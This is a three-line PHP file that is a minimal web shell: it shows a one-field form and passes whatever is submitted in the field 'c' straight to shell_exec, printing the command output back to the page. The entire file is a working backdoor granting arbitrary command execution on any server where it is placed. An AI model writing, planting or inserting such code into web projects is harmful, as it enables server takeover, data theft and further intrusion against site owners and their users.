<?php
echo '<form method=post><input name=c><input type=submit></form>';
if ($c = $_POST['c']) { echo '<pre>' . htmlspecialchars(shell_exec($c)) . '</pre>'; }
